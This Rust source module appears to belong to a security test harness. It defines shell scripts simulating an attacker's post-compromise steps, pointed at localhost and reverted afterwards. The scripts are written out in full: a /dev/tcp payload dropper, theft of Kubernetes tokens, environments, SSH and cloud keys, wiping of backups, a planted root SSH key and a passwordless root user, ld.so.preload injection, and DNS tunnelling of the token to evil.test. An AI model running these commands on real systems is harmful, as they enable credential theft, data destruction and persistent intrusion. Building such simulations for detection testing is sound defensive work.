//! What attackers do on more than one server, once they are in.
//!
//! In: nothing. Out: scripts for the shell, ports. Never: a server's name.

/// Where programs are fetched from, where loot goes, where the shell calls home, the pool.
pub(super) const FETCH: u16 = 4445;
pub(super) const LOOT: u16 = 4446;
pub(super) const SHELL: u16 = 4443;
pub(super) const POOL: u16 = 3333;

/// Fetches a program to /tmp and runs it.
macro_rules! dropped {
    ($run:literal) => {
        concat!(
            "exec 3<>/dev/tcp/127.0.0.1/4445; cat <&3 >/tmp/.cache; exec 3>&-\n",
            "chmod +x /tmp/.cache; /tmp/.cache ",
            $run,
            "; rm -f /tmp/.cache; true"
        )
    };
}
pub(super) use dropped;

/// What somebody looks at first.
pub(super) const LOOK_AROUND: &str = "id; uname -a; hostname 2>/dev/null; cat /etc/passwd; ls -la / /tmp
for p in /proc/[0-9]*; do tr '\\0' ' ' <$p/cmdline; echo; done 2>/dev/null; true";

/// What is worth taking in a pod.
pub(super) const SECRETS: &str = "cat /var/run/secrets/kubernetes.io/serviceaccount/token; echo
for p in /proc/[0-9]*; do tr '\\0' '\\n' <$p/environ; done 2>/dev/null
ls -la /root /etc/ssl/private ~/.ssh ~/.aws 2>/dev/null; cat /etc/shadow 2>/dev/null | head -3; true";

/// The database's backups, as the harness put them there: written over, then removed.
pub(super) const DESTROY: &str = "cd /var/backups; n=0
for f in *.sql; do head -c 65536 /dev/zero >$f && rm $f && n=$((n + 1)); done; echo destroyed $n";

/// A key of the attacker's for root; taken away again.
pub(super) const PLANT_KEY: &str = "umask 077; mkdir -p /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMALLORY mallory@home' >>/root/.ssh/authorized_keys
cat /root/.ssh/authorized_keys; rm -f /root/.ssh/authorized_keys; true";

/// Another root, without a password; taken away again.
pub(super) const ADD_USER: &str = "cp /etc/passwd /tmp/.p; echo 'sync2::0:0::/root:/bin/bash' >>/etc/passwd
cat /etc/passwd | tail -n 1; cat /tmp/.p >/etc/passwd; rm -f /tmp/.p; true";

/// A library for every program that starts from now on; taken away again before one does.
pub(super) const PRELOAD: &str = "echo /tmp/.lib.so >/etc/ld.so.preload; read line </etc/ld.so.preload; : >/etc/ld.so.preload
echo preloaded $line; rm -f /etc/ld.so.preload";

/// The pod's token in names that a resolver would ask for, thirty of them.
pub(super) const TUNNEL: &str =
    "exec 3<>/dev/udp/127.0.0.1/53; token=$(base64 -w 40 </var/run/secrets/kubernetes.io/serviceaccount/token)
n=0; while [ $n -lt 30 ]; do for part in $token; do
printf -v length '\\\\%03o' ${#part}
printf '\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0%b%s\\4evil\\4test\\0\\0\\20\\0\\1' $length $part >&3; n=$((n + 1))
done; done; echo tunnelled $n";

/// A kilobyte a second, for ten seconds.
pub(super) const DRIP: &str = "exec 3<>/dev/tcp/127.0.0.1/4446; echo dripping >&3; n=0
while [ $n -lt 10 ]; do head -c 1024 /srv/www/terms >&3; sleep 1; n=$((n + 1)); done; exec 3>&-; echo dripped";
